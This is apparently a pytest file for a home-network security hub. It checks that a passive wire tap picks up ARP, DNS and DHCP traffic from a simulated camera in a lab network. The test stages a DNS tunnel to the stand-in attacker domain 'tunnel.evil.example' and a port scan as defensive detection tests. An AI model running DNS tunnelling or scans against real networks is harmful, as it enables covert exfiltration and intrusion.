"""What devices say to the whole home, from the virtual home's wire."""

import time
from unittest.mock import patch

import pytest

from custom_components.secure_hub.adapters.sources.wire import WireTap
from custom_components.secure_hub.engine.detection.observations import ObservationKind
from custom_components.secure_hub.engine.detection.readers.announcements import Announcements
from custom_components.secure_hub.engine.detection.readers.endpoints import Home
from tests.lab.network.lab import Lab


def test_arp_neighbours_dns_and_dhcp_and_nothing_else(lab: Lab, socket_enabled: None) -> None:  # noqa: ARG001
    camera = lab.device("camera")
    tap, announcements = WireTap(["br-iot", "not-there"]), Announcements(Home())
    try:
        list(tap.read())
        camera.run("dns_tunnel", domain="tunnel.evil.example", count=2)
        camera.run("scan", hosts=["10.66.1.200"], ports=[80])
        camera.dhcp_renew()
        camera.can_reach(lab.internet, tcp=443)
        frames, deadline = list(tap.read()), time.monotonic() + 10
        wanted = {ObservationKind.ARP_REQUEST, ObservationKind.DNS, ObservationKind.DHCP_REQUEST}
        while time.monotonic() < deadline:
            frames += tap.read()
            seen = [one for at, frame in frames for one in announcements.frame(at, frame)]
            if wanted <= {one.kind for one in seen}:
                break
            time.sleep(0.1)
    finally:
        tap.close()
    assert wanted <= {one.kind for one in seen}
    assert {one.asset for one in seen if one.kind is ObservationKind.DNS} >= {camera.mac}
    assert any(one.name.endswith("tunnel.evil.example") for one in seen)
    ports = {int.from_bytes(frame[36:38]) for _, frame in frames if frame[12:14] == b"\x08\x00" and frame[23] == 17}
    assert not any(frame[12:14] == b"\x08\x00" and frame[23] == 6 for _, frame in frames), "no conversation"
    assert ports


def test_without_the_right_to_listen(lab: Lab) -> None:
    assert lab
    with (
        patch("socket.socket", side_effect=PermissionError(1, "no")),
        pytest.raises(PermissionError),
    ):
        WireTap(["br-iot"])
